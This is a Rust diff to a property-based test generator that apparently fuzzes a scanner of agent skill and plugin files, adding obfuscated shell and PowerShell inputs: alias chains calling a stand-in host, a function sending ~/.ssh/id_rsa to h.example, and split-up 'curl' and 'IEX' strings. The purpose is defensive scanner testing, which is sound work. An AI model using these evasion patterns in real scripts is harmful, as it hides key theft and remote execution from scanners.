@@ -132,6 +132,9 @@ enum Hostile {
     /// normaliser drops, folds or maps (soft hyphens, combining marks,
     /// fullwidth and look-alike letters), clause breaks and negations.
     Orders(Vec<&'static str>),
+    /// Indirection a shell or PowerShell reader resolves: alias chains,
+    /// functions calling functions, many variables, long concatenations.
+    Indirection(usize),
 }
 
 impl Hostile {
@@ -211,6 +214,27 @@ impl Hostile {
                     }
                 }
             }
+            Hostile::Indirection(kind) => {
+                let mut i = 0usize;
+                while out.len() < n {
+                    let line = match kind % 6 {
+                        0 => format!("alias a{i}=a{}\na{i} https://h.example/x\n", i + 1),
+                        1 => format!(
+                            "f{i}(){{ f{} \"$@\" https://h.example/{i}; }}\nf{i} -d @~/.ssh/id_rsa\n",
+                            i + 1
+                        ),
+                        2 => format!("v{i}=cu$v{}rl\n$v{i}$v{i} -s x\n", i.saturating_sub(1)),
+                        3 => "x=\"$x$x$(echo $(printf '\\x63') | rev)\"\n$x\n".to_string(),
+                        4 => format!(
+                            "$a{i} = 'I'+'E'+$a{}+('X','Y' -join '')\n",
+                            i.saturating_sub(1)
+                        ),
+                        _ => format!("& (\"{{1}}{{0}}\" -f 'EX','I') ${{x{i}\n"),
+                    };
+                    out.push_str(&line);
+                    i += 1;
+                }
+            }
         }
         out
     }
@@ -277,6 +301,7 @@ fn hostile() -> impl Strategy<Value = Hostile> {
             1..24,
         )
         .prop_map(Hostile::Orders),
+        (0usize..6).prop_map(Hostile::Indirection),
     ]
 }
 
@@ -300,10 +325,11 @@ const ENTRIES: [&str; 14] = [
 ];
 
 /// Where the input goes, as the scanner reads each differently.
-const PLACES: [&str; 16] = [
+const PLACES: [&str; 17] = [
     "SKILL.md",
     "scripts/run.sh",
     "scripts/run.py",
+    "scripts/run.ps1",
     "references/guide.md",
     "hooks/hooks.json",
     ".mcp.json",
